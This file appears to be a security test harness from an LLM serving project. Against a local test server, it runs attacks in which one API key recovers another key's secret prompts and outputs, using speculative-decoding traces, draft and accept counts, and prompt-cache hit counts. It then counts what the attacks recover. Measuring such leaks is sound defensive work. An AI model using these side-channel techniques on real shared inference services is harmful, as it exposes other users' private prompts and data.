"""What one API key can find out about another's requests: attacks on a live server, and a count of what they recover.

``python -m serve.attacks --secrets 100`` in ``tests`` prints the figures; on an older version of forerun, too.
"""

from __future__ import annotations

import argparse
import dataclasses
import random
import string
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx

from engine.conftest import _write
from forerun.serve.settings import ServeSettings
from serve.conftest import Live, serving

VICTIM, ATTACKER = "key-of-the-victim", "key-of-the-attacker"
ALPHABET = "ABCDEFGHIJKLMNOP"
"""Of secrets: each is a token."""
LETTERS = string.ascii_letters + string.digits
"""Of prompts, in which each occurs once."""
KNOWN = 3
"""Characters of a secret that the attacker has guessed already."""
LENGTH = 24
"""Characters that he wants."""
DIGITS = 9


@dataclass
class Recovered:
    """What attacks on some secrets brought."""

    right: int = 0
    """Characters that were named rightly."""
    of: int = 0
    requests: int = 0
    whole: int = 0
    """Secrets of which every character was."""
    blind: float = 0.0
    """Characters that who guesses names rightly, on average."""

    def add(self, found: str, secret: str, requests: int, letters: int) -> None:
        right = sum(one == other for one, other in zip(found, secret, strict=True))
        self.right, self.of, self.requests = self.right + right, self.of + len(secret), self.requests + requests
        self.whole += right == len(secret)
        self.blind += len(secret) / letters

    @property
    def most_by_chance(self) -> float:
        """Four standard deviations above what guessing brings."""
        share = self.blind / self.of
        return self.blind + 4 * (self.of * share * (1 - share)) ** 0.5

    def __str__(self) -> str:
        return (
            f"{self.right} of {self.of} characters in {self.requests} requests, {self.whole} secrets whole; guessing "
            f"brings {self.blind:.0f}"
        )


class Server:
    """A live server as its clients see it."""

    def __init__(self, live: Live, keyed: bool = True) -> None:
        self.live, self._keyed = live, keyed
        self._http = httpx.Client(base_url=live.url, timeout=60)
        self.requests = 0

    def __enter__(self) -> Server:
        return self

    def __exit__(self, *_: object) -> None:
        self._http.close()

    def ask(self, key: str, prompt: Sequence[int], **more: Any) -> dict[str, Any]:
        """A completion; its errors are answers, too."""
        headers = {"authorization": f"Bearer {key}"} if self._keyed else {}
        body = {"prompt": list(prompt), "temperature": 0, "ignore_eos": True, **more}
        self.requests += key == ATTACKER
        answer: dict[str, Any] = self._http.post("/v1/completions", json=body, headers=headers).json()
        return answer

    def token(self, text: str) -> int:
        """The token of one character."""
        tokenizer = self.live.llm.tokenizer
        [found] = tokenizer.encode(text, add_special_tokens=False)
        return int(found)

    def tokens(self, text: str) -> list[int]:
        return [self.token(character) for character in text]

    def told(self, rng: random.Random) -> str:
        """The victim is told a secret: an answer of random letters."""
        secret = "".join(rng.choices(ALPHABET, k=KNOWN + LENGTH))
        answer = self.ask(
            VICTIM, self.tokens("tell"), structured_outputs={"choice": [secret]}, max_tokens=KNOWN + LENGTH
        )
        assert answer["choices"][0]["text"] == secret
        return secret


def from_traces(server: Server, start: str, rng: random.Random) -> str:
    """Make the target say the last known character, and read in the trace what was drafted behind it."""
    known = start
    while len(known) < KNOWN + LENGTH:
        *before, last = server.tokens(known)
        answer = server.ask(ATTACKER, before, logit_bias={str(last): 100}, max_tokens=8, return_speculation_trace=True)
        steps = answer["speculation_trace"][0]["steps"] if "speculation_trace" in answer else []
        drafted, parent = "", 0
        for place, node in enumerate(steps[0]["nodes"] if steps else [], start=1):
            if node["parent"] == parent:  # and so on along the likeliest path
                drafted, parent = drafted + node["text"], place
        if not drafted or not set(drafted) <= set(ALPHABET):
            drafted = rng.choice(ALPHABET)
        known += drafted[: KNOWN + LENGTH - len(known)]
    return known[KNOWN:]


def from_successors(server: Server, secret: str, rng: random.Random) -> str:
    """A prompt of the victim, where each token is drafted behind the one that it followed."""
    server.ask(VICTIM, server.tokens(secret), max_tokens=2)
    known = secret[:KNOWN]
    while len(known) < KNOWN + LENGTH:
        before, last = server.tokens(known[-2:])
        answer = server.ask(
            ATTACKER, [before], logit_bias={str(last): 100}, max_tokens=8, return_speculation_trace=True
        )
        steps = answer["speculation_trace"][0]["steps"] if "speculation_trace" in answer else []
        drafted = [node["text"] for node in (steps[0]["nodes"] if steps else []) if node["text"] in LETTERS]
        known += drafted[0] if drafted else rng.choice(LETTERS)
    return known[KNOWN:]


def from_counts(server: Server, start: str, rng: random.Random) -> str:
    """Try each character behind those that are known: behind the right one more is drafted, and more of it accepted."""
    known = start
    for _ in range(LENGTH):
        seen = dict[str, tuple[int, int]]()
        for letter in ALPHABET:
            answer = server.ask(
                ATTACKER, server.tokens(known), logit_bias={str(server.token(letter)): 100}, max_tokens=8,
                stop=[2 * letter],
            )  # fmt: skip
            counts = answer["metrics"]["speculative_decoding"]
            seen[letter] = counts["num_draft_tokens"], counts["num_accepted_draft_tokens"]
        most = max(seen.values())
        known += rng.choice([letter for letter in ALPHABET if seen[letter] == most])
    return known[KNOWN:]


def from_cached_tokens(server: Server, secret: str, rng: random.Random) -> str:
    """Digits of the victim's prompt: with the right one more tokens are found in the cache."""
    before, known = server.tokens("my account has the number "), ""
    for _ in range(DIGITS):
        seen = dict[str, int]()
        for digit in "0123456789":
            server.ask(VICTIM, [*before, *server.tokens(secret)], max_tokens=1)
            answer = server.ask(ATTACKER, [*before, *server.tokens(known + digit + "xx")], max_tokens=1)
            details = answer["usage"].get("prompt_tokens_details") or {}
            seen[digit] = details.get("cached_tokens", 0)
        most = max(seen.values())
        known += rng.choice([digit for digit in "0123456789" if seen[digit] == most])
    return known


def recover(server: Server, attack: Callable[[Server, str, random.Random], str], secrets: int, seed: int) -> Recovered:
    """Attack so many secrets that the victim is told."""
    found, rng = Recovered(), random.Random(seed)
    for _ in range(secrets):
        server.requests = 0
        if attack is from_cached_tokens:
            secret, letters = "".join(rng.choices("0123456789", k=DIGITS)), 10
            guess = attack(server, secret, rng)
        elif attack is from_successors:
            whole, letters = "".join(rng.sample(LETTERS, KNOWN + LENGTH)), len(LETTERS)
            guess, secret = attack(server, whole, rng), whole[KNOWN:]
        else:
            told, letters = server.told(rng), len(ALPHABET)
            guess, secret = attack(server, told[:KNOWN], rng), told[KNOWN:]
        found.add(guess, secret, server.requests, letters)
    return found


def shares(
    live: Live, bodies: Sequence[tuple[dict[str, str], dict[str, Any]]], answers: int, depth: int = 8
) -> list[int]:
    """How many requests each of some greedy clients gets answered while all together get `answers`.

    Args:
        bodies: headers and fields of each client's requests.
        depth: requests that a client has in flight at any time; more than its share of the rows.
    """
    counts, ended, lock = [0] * len(bodies), threading.Event(), threading.Lock()

    def work(place: int) -> None:
        headers, fields = bodies[place]
        body = {"prompt": "the cat", "temperature": 0, "ignore_eos": True, "max_tokens": 24, **fields}
        with httpx.Client(timeout=60) as http:
            while not ended.is_set():
                answer = http.post(live.url + "/v1/completions", json=body, headers=headers)
                assert answer.status_code == 200, answer.text
                with lock:
                    counts[place] += not ended.is_set()
                    if sum(counts) >= answers:
                        ended.set()

    threads = [threading.Thread(target=work, args=(place,)) for place in range(len(bodies)) for _ in range(depth)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    return counts


def settings(**wanted: Any) -> dict[str, Any]:
    """Of these settings those that this version of forerun has."""
    known = {one.name for one in dataclasses.fields(ServeSettings)}
    return {name: value for name, value in wanted.items() if name in known}


OPEN = settings(
    api_keys=(VICTIM, ATTACKER), allow_traces=True, enable_prompt_tokens_details=True, client_drafters=("suffix",)
)
"""A server whose operator allows all that tells something."""
DRAFTERS = {
    "suffix": {"method": "suffix", "adaptive": False},
    "recycling": {"method": "recycling", "adaptive": False},
    "lookahead": {"method": "lookahead", "shared_pool": True, "adaptive": False},
}


def say(*parts: object) -> None:
    sys.stdout.write(" ".join(map(str, parts)) + "\n")
    sys.stdout.flush()


def main() -> None:
    """Print what each attack recovers."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--secrets", type=int, default=100, help="that are read in traces")
    parser.add_argument("--guessed", type=int, default=20, help="that are guessed, character by character")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--drafters", nargs="*", default=list(DRAFTERS))
    asked = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder:
        checkpoint = _write(Path(folder), seed=0, layers=2)
        for name in asked.drafters:
            speculative = DRAFTERS[name]
            with serving(checkpoint, speculative=speculative, **OPEN) as live, Server(live) as server:
                began = time.perf_counter()
                attack = from_traces if name == "suffix" else from_successors
                say(name, "traces:", recover(server, attack, asked.secrets, asked.seed))
                if name == "suffix":
                    say(name, "counts:", recover(server, from_counts, asked.guessed, asked.seed))
                    say("prefixes:", recover(server, from_cached_tokens, asked.guessed, asked.seed))
                say(f"{time.perf_counter() - began:.0f} s")
        with serving(checkpoint, **OPEN) as live:
            named = {"authorization": f"Bearer {VICTIM}"}, {"user": "alice"}
            unnamed = {"authorization": f"Bearer {ATTACKER}"}, {}
            say("requests of a named and an unnamed client", shares(live, [named, unnamed], 400))


if __name__ == "__main__":
    main()
